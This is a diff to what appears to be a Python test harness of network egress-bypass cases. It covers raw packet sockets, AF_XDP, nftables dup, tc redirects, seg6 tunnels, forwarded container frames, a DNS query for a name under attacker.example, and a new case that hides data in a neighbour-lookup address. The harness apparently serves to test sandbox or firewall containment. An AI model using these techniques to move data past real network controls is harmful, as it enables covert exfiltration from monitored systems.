@@ -1,11 +1,13 @@
 """Below the sockets: packet sockets, devices of the attacker's own making, tunnels, containers that are forwarded."""
 import ctypes
 import errno
+import ipaddress
 import mmap
 import os
 import socket
 import struct
 import subprocess
+import time
 
 import craft
 import raw
@@ -21,7 +23,7 @@ ROOT = {"caps": ("NET_ADMIN", "SYS_ADMIN")}
 
 
 def ether(t, data, ethertype=None):
-    return b"\xff" * 6 + b"\2oh\0\0\1" + struct.pack("!H", ethertype or ETHERTYPE[t.family]) + data
+    return t.router_mac + t.own_mac + struct.pack("!H", ethertype or ETHERTYPE[t.family]) + data
 
 
 def datagram(t, **kw):
@@ -51,7 +53,7 @@ def packet_raw(t):
 @attack(PACKET, "a packet from a packet socket of type SOCK_DGRAM", "uplink", "packet-socket")
 def packet_dgram(t):
     s = packet_socket(kind=socket.SOCK_DGRAM)
-    s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, b"\xff" * 6))
+    s.sendto(datagram(t), ("eth0", ETHERTYPE[t.family], 0, 0, t.router_mac))
 
 
 @attack(PACKET, "a frame that skips the queueing layer (PACKET_QDISC_BYPASS)", "lsm", "packet-socket")
@@ -132,10 +134,21 @@ def packet_xdp(t):
     offsets = struct.unpack("16Q", s.getsockopt(283, 1, 128))                           # rx, tx, fill, completion
     producer, _, descriptors = offsets[4:7]
     tx = mmap.mmap(s.fileno(), descriptors + 16 * 16, offset=0x80000000)
-    checked(libc.bind(s.fileno(), struct.pack("HHIII", 44, 2, socket.if_nametoindex("eth0"), 0, 0), 16), "bind")
+    bind_xdp(s, struct.pack("HHIII", 44, 2, socket.if_nametoindex("eth0"), 0, 0))
     tx[descriptors:descriptors + 16] = struct.pack("QII", 0, len(frame), 0)
     struct.pack_into("I", tx, producer, 1)
     checked(libc.sendto(s.fileno(), None, 0, 0x40, None, 0), "sendto")
+
+
+def bind_xdp(s, address):
+    """The queue of a socket that was closed is free a moment later."""
+    for _ in range(50):
+        if not libc.bind(s.fileno(), address, 16):
+            return
+        if ctypes.get_errno() != errno.EBUSY:
+            break
+        time.sleep(0.02)
+    checked(-1, "bind")
 
 
 # ---- with CAP_NET_ADMIN on the host, which the threat model excludes ----
@@ -235,9 +248,9 @@ def other_namespace(t):
     t.socket(socket.SOCK_STREAM, timeout=0.2).connect((t.to, t.port))
 
 
-@attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "packet-socket", families=(4,), **ADMIN)
+@attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "protocol-not-allowed", families=(4,), **ADMIN)
 def nft_dup(t):
-    rule = "table ip oh { chain o { type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to 10.0.1.1 device eth0; } }"
+    rule = f"table ip oh {{ chain o {{ type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0; }} }}"
     nft(rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))
 
 
@@ -248,7 +261,7 @@ def nft_dnat(t):
 
 
 def nft(rule, act):
-    r = subprocess.run(["nft", "-f", "-"], input=rule, capture_output=True, text=True)
+    r = subprocess.run(["nft", "-f", "-"], input=rule.replace("} }", "}\n}"), capture_output=True, text=True)
     if r.returncode:
         raise Unavailable("nft: " + r.stderr.strip().splitlines()[0])
     try:
@@ -257,11 +270,11 @@ def nft(rule, act):
         tool("nft", "delete", "table", "ip", "oh")
 
 
-@attack(TUNNEL, "what loopback carries, redirected to the uplink by tc", "uplink", "packet-socket", families=(4,), **ADMIN)
+@attack(TUNNEL, "what loopback carries, redirected to the uplink by tc", "uplink", "forwarded", families=(4,), **ADMIN)
 def tc_from_loopback(t):
     tool("tc", "qdisc", "add", "dev", "lo", "clsact")
     try:
-        tool("tc", "filter", "add", "dev", "lo", "egress", "matchall", "action", "mirred", "egress", "redirect", "dev", "eth0")
+        tool("tc", "filter", "add", "dev", "lo", "egress", "protocol", "all", "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "redirect", "dev", "eth0")
         t.socket().sendto(t.marker, ("127.0.0.1", 9))
     finally:
         tool("tc", "qdisc", "del", "dev", "lo", "clsact")
@@ -270,7 +283,7 @@ def tc_from_loopback(t):
 @attack(TUNNEL, "a segment-routing tunnel on the route (seg6)", "connect", "protocol-not-allowed", families=(6,), **ADMIN)
 def seg6_route(t):
     tool("ip", "-6", "route", "add", "2001:db8:77::77", "encap", "seg6", "mode", "encap", "segs", t.to, "dev", "eth0",
-         "via", "fd00:1::1")
+         "via", t.router)
     try:
         t.socket().sendto(t.marker, ("2001:db8:77::77", t.port))
     finally:
@@ -302,35 +315,37 @@ def box_icmp6(t):
 
 @attack(BOX, "a frame from a packet socket, forwarded by the host", "uplink", "forwarded", where="box")
 def box_packet(t):
-    packet_socket().send(gateway(t) + datagram(t))
+    packet_socket().send(ether(t, datagram(t)))
 
 
 @attack(BOX, "a frame that skips the container's queueing layer", "uplink", "forwarded", where="box")
 def box_bypass(t):
     s = packet_socket()
     s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
-    s.send(gateway(t) + datagram(t))
+    s.send(ether(t, datagram(t)))
 
 
 @attack(BOX, "a forwarded DNS query for a name of the attacker's", "uplink", "dns-name-not-allowed", families=(4,), where="box")
 def box_dns(t):
     data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
-    packet_socket().send(gateway(t) + craft.ip4(t.source, t.resolver, craft.UDP, data))
+    packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
 
 
 @attack(BOX, "forwarded fragments", "uplink", "fragment", where="box")
 def box_fragments(t):
     s = packet_socket()
     for p in raw.old_fragment_overlapping.packets(t):
-        s.send(gateway(t) + p)
+        s.send(ether(t, p))
+
+
+@attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "", where="box",
+        leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 one, to its link")
+def box_neighbour(t):
+    to = "10.0.1.77" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
+    packet_socket().send(ether(t, craft.ip(t.source, to, craft.UDP, craft.udp(t.source, to, 4444, t.port, b"x"))))
 
 
 @attack(BOX, "a forwarded echo request", "uplink", "forwarded", where="box")
 def box_echo(t):
     data = craft.icmp(8, b"\0\1\0\1" + t.marker) if t.family == 4 else craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker)
-    packet_socket().send(gateway(t) + craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data))
-
-
-def gateway(t):
-    """The Ethernet header towards the bridge, whose address the harness chose."""
-    return b"\2oh\0\0\x0a" + b"\2oh\0\0\x0b" + struct.pack("!H", ETHERTYPE[t.family])
+    packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data)))
